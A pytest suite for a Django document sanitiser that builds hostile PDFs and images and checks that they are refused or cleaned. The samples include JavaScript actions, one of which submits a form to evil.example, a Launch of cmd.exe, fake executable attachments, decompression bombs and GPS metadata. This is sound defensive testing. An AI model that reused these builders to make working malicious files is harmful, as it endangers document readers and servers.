"""documents.sanitize: files are judged by their bytes, hostile ones refused or neutralised.

Every hostile file is built here, with pikepdf, Pillow or by hand, so that what is tested is
visible next to the test. The builders are imported by the intake tests as well.
"""

from __future__ import annotations

import io
import resource
import struct
import zlib
from decimal import Decimal

import pikepdf
import pytest
from django.utils import translation
from PIL import Image

from documents.sanitize import JPEG, PDF, PNG, DocumentRefused, sanitize

MB = 1024 * 1024


@pytest.fixture(autouse=True)
def in_english():
    # The product speaks Polish by default; the assertions quote the English source text.
    with translation.override("en"):
        yield


# --- builders ---------------------------------------------------------------------------------


def blank_pdf(pages: int = 2) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def pdf_bytes(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    # Streams written as built: a bomb must reach the sanitiser still compressed.
    if "encryption" not in options:
        # (qpdf would otherwise turn LZW into Flate, or unpack a bomb, while writing.)
        options.update(stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    pdf.save(out, **options)
    return out.getvalue()


def javascript(code: str = "app.alert('pwned')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def hostile_pdf() -> bytes:
    """JavaScript on opening, in the name tree, on a page event and behind two links; a Launch
    action; and one harmless internal link that must survive."""
    pdf = blank_pdf(2)
    pdf.Root.OpenAction = javascript()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript())])
        )
    )
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=javascript("this.submitForm('https://evil.example')"))
    rect = pikepdf.Array([0, 0, 100, 100])
    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, A=javascript()
                    )
                ),
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=rect,
                        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
                        AA=pikepdf.Dictionary(E=pdf.make_indirect(javascript())),
                    )
                ),
                pdf.make_indirect(
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=rect,
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
                        ),
                    )
                ),
            ]
        )
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return pdf_bytes(pdf)


def pdf_with_attachment() -> bytes:
    pdf = blank_pdf(1)
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program")
    spec = pikepdf.AttachedFileSpec(pdf, b"<script>alert(1)</script>", filename="note.html")
    pdf.pages[0].obj.Annots = pikepdf.Array(
        [
            pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.FileAttachment,
                    Rect=pikepdf.Array([0, 0, 20, 20]),
                    FS=spec.obj,
                )
            )
        ]
    )
    return pdf_bytes(pdf)


def zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = bytes(MB)
    parts = [compressor.compress(block) for _ in range(size // MB)]
    parts.append(compressor.flush())
    return b"".join(parts)


def pdf_with_content_stream(raw: bytes, filters: list[str]) -> bytes:
    """One page whose content stream holds ``raw``, declared as encoded with ``filters``."""
    pdf = blank_pdf(1)
    stream = pdf.make_stream(b"")
    stream.write(raw, filter=pikepdf.Array([pikepdf.Name(name) for name in filters]))
    pdf.pages[0].obj.Contents = stream
    return pdf_bytes(pdf)


def encrypted_pdf(user_password: str = "tajne") -> bytes:  # noqa: S107 (a test file's password)
    return pdf_bytes(blank_pdf(1), encryption=pikepdf.Encryption(user=user_password, owner="owner-secret"))


def png_bytes(width: int, height: int, mode: str = "RGB", **save_options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), "white").save(out, "PNG", **save_options)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of_zeros(width: int, height: int) -> bytes:
    """A 1-bit greyscale PNG written by hand, rows compressed one by one: the file is small
    while the image it declares is huge (30000 x 30000 is 900 megapixels)."""
    row = bytes(1 + (width + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def jpeg_with_gps() -> bytes:
    """A phone photo: 64 x 48, taken rotated (EXIF orientation 6), with the place it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0112] = 6
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (Decimal(52), Decimal(13), Decimal(30))
    gps[3] = "E"
    gps[4] = (Decimal(21), Decimal(0), Decimal(12))
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def all_names(pdf: pikepdf.Pdf) -> set[str]:
    """Every dictionary key and every name value anywhere in the document."""
    seen: set[str] = set()

    def walk(obj: object) -> None:
        if isinstance(obj, pikepdf.Name):
            seen.add(str(obj))
        elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in obj.keys():  # noqa: SIM118 (a pikepdf Stream iterates its data, not keys)
                seen.add(key)
                walk_direct(obj.get(key))
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                walk_direct(item)

    def walk_direct(obj: object) -> None:
        # Indirect objects are walked once each, from pdf.objects.
        if isinstance(obj, pikepdf.Object) and not obj.is_indirect:
            walk(obj)

    for obj in pdf.objects:
        walk(obj)
    return seen


def refused(data: bytes, name: str = "scan.pdf") -> DocumentRefused:
    with pytest.raises(DocumentRefused) as caught:
        sanitize(data, name)
    return caught.value


# --- PDF --------------------------------------------------------------------------------------


def test_javascript_and_actions_are_taken_out_and_the_pages_kept():
    result = sanitize(hostile_pdf(), "umowa.pdf")

    assert (result.content_type, result.extension, result.pages) == (PDF, "pdf", 2)
    with pikepdf.open(io.BytesIO(result.content)) as pdf:
        assert len(pdf.pages) == 2
        names = all_names(pdf)
        for gone in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/XFA", "/EmbeddedFiles"):
            assert gone not in names
        # The internal link is harmless and stays; the links that ran code lost their action.
        links = [annot for annot in pdf.pages[0].Annots if "/A" in annot]
        assert [str(link.A.S) for link in links] == ["/GoTo"]
    assert b"app.alert" not in result.content and b"cmd.exe" not in result.content
    assert result.removed["open_action"] == 1
    assert result.removed["javascript_name_tree"] == 1
    assert result.removed["additional_actions"] == 2
    assert result.removed["xfa_forms"] == 1
    assert result.removed["actions"] == {"JavaScript": 5, "Launch": 1}


def test_embedded_files_and_attachment_annotations_are_removed():
    result = sanitize(pdf_with_attachment(), "scan.pdf")

    with pikepdf.open(io.BytesIO(result.content)) as pdf:
        assert len(pdf.attachments) == 0
        assert "/EmbeddedFiles" not in all_names(pdf) and "/EF" not in all_names(pdf)
        assert "/Annots" not in pdf.pages[0] or len(pdf.pages[0].Annots) == 0
    assert b"not really a program" not in result.content and b"<script>" not in result.content
    assert result.removed["embedded_files"] == 1
    assert result.removed["annotations"] == {"FileAttachment": 1}


def test_a_clean_pdf_passes_unchanged_in_substance():
    result = sanitize(pdf_bytes(blank_pdf(3)), "scan.pdf")

    assert result.pages == 3 and result.removed == {}


def test_a_flate_bomb_is_refused():
    # 400 MB of zeros in a stream of about 400 kB.
    bomb = pdf_with_content_stream(zeros_deflated(400 * MB), ["/FlateDecode"])
    assert len(bomb) < MB

    error = refused(bomb)

    assert error.code == "inflates_too_much"
    assert "300 MB" in str(error)


def test_a_bomb_behind_another_filter_is_measured_too():
    # Hex text first, so that the raw bytes do not look like zlib: the decoder chain finds it.
    deflated = zeros_deflated(400 * MB)
    bomb = pdf_with_content_stream(deflated.hex().encode() + b">", ["/ASCIIHexDecode", "/FlateDecode"])

    assert refused(bomb).code == "inflates_too_much"


def test_a_run_length_bomb_is_refused():
    # Each two bytes repeat one byte 128 times: 6 MB of them make 384 MB.
    bomb = pdf_with_content_stream(b"\x81\x00" * (3 * MB) + b"\x80", ["/RunLengthDecode"])

    assert refused(bomb).code == "inflates_too_much"


def test_an_obsolete_compression_is_refused_with_its_name():
    error = refused(pdf_with_content_stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", ["/LZWDecode"]))

    assert error.code == "unsupported_filter"
    assert "LZWDecode" in str(error)


def test_compression_applied_twice_is_refused():
    inner = zlib.compress(b"\x81\x00" * 1000)

    error = refused(pdf_with_content_stream(inner, ["/FlateDecode", "/RunLengthDecode"]))

    assert error.code == "unsupported_filter"
    assert "FlateDecode + RunLengthDecode" in str(error)


def test_a_password_protected_pdf_is_refused():
    error = refused(encrypted_pdf())

    assert error.code == "encrypted"
    assert "password" in str(error)


def test_a_pdf_encrypted_without_an_opening_password_is_refused_too():
    assert refused(encrypted_pdf(user_password="")).code == "encrypted"


def test_too_many_pages_are_refused_with_the_limit():
    error = refused(pdf_bytes(blank_pdf(31)))

    assert error.code == "too_many_pages"
    assert "31 pages" in str(error) and "at most 30" in str(error)


def test_a_pdf_image_larger_than_the_pixel_limit_is_refused():
    pdf = blank_pdf(1)
    image = pdf.make_stream(
        b"\xff\xd8\xff",
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=100_000,
        Height=100_000,
        ColorSpace=pikepdf.Name.DeviceGray,
        BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))

    assert refused(pdf_bytes(pdf)).code == "too_many_pixels"


def test_a_damaged_pdf_is_refused():
    assert refused(b"%PDF-1.7\n" + b"\x00garbage" * 100).code == "damaged"


# --- what the content says, not the name ------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<!DOCTYPE html><html><script>alert(1)</script></html>", id="html"),
        pytest.param(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200), id="exe"),
        pytest.param(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", id="gif"),
        pytest.param(b"PK\x03\x04" + bytes(100), id="zip"),
    ],
)
def test_a_file_named_pdf_that_is_something_else_is_refused(data: bytes):
    error = refused(data, "scan.pdf")

    assert error.code == "not_accepted"
    assert "whatever its name says" in str(error)


def test_a_png_named_pdf_is_taken_as_png():
    result = sanitize(png_bytes(40, 30), "scan.pdf")

    assert (result.content_type, result.extension, result.pages) == (PNG, "png", 1)
    assert Image.open(io.BytesIO(result.content)).format == "PNG"


def test_the_message_is_read_in_the_readers_language():
    error = refused(b"<html></html>", "scan.pdf")

    with translation.override("pl"):
        polish = str(error)
    with translation.override("en"):
        english = str(error)
    assert english.startswith("This file is not a PDF, JPEG or PNG")
    assert polish != english


def test_an_empty_file_is_refused():
    assert refused(b"").code == "empty"


# --- images -----------------------------------------------------------------------------------


def test_a_png_decompression_bomb_is_refused_without_decoding_it():
    bomb = png_of_zeros(30_000, 30_000)
    assert len(bomb) < 2 * MB
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # kB on Linux

    error = refused(bomb, "scan.png")

    growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert error.code == "too_many_pixels"
    assert "30000 x 30000" in str(error)
    assert growth_mb < 200


def test_an_image_just_over_the_pixel_limit_is_refused_with_the_limit():
    error = refused(png_of_zeros(8_000, 6_000), "scan.png")

    assert error.code == "too_many_pixels"
    assert "40 megapixels" in str(error)


def test_a_photo_loses_its_exif_and_location_and_is_turned_upright():
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)

    result = sanitize(original, "IMG_0001.jpg")

    assert (result.content_type, result.extension) == (JPEG, "jpg")
    stored = Image.open(io.BytesIO(result.content))
    assert not stored.getexif()
    assert b"Exif" not in result.content and b"PhoneMaker" not in result.content
    # Orientation 6 means "turn 90 degrees to show": the stored photo is already turned.
    assert stored.size == (48, 64)
    assert result.removed == {"exif": True, "gps_location": True}


def test_an_animated_png_keeps_its_first_frame_only():
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("white", "black", "red")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])

    result = sanitize(out.getvalue(), "scan.png")

    stored = Image.open(io.BytesIO(result.content))
    assert getattr(stored, "n_frames", 1) == 1
    assert stored.getpixel((0, 0)) == (255, 255, 255)
    assert result.removed["extra_frames"] == 2


def test_a_transparent_png_with_text_is_flattened_and_stripped():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    image = Image.new("RGBA", (10, 10), (0, 0, 0, 0))
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info)

    result = sanitize(out.getvalue(), "scan.png")

    stored = Image.open(io.BytesIO(result.content))
    assert stored.mode == "RGB" and stored.getpixel((5, 5)) == (255, 255, 255)
    assert b"<script>" not in result.content
    assert result.removed["text_chunks"] == 1


def test_a_truncated_image_is_refused():
    data = jpeg_with_gps()
    assert refused(data[: len(data) // 2], "photo.jpg").code == "damaged"


def test_hashes_are_of_the_original_and_of_the_cleaned_copy():
    import hashlib

    original = jpeg_with_gps()
    result = sanitize(original, "photo.jpg")

    assert result.original_sha256 == hashlib.sha256(original).hexdigest()
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
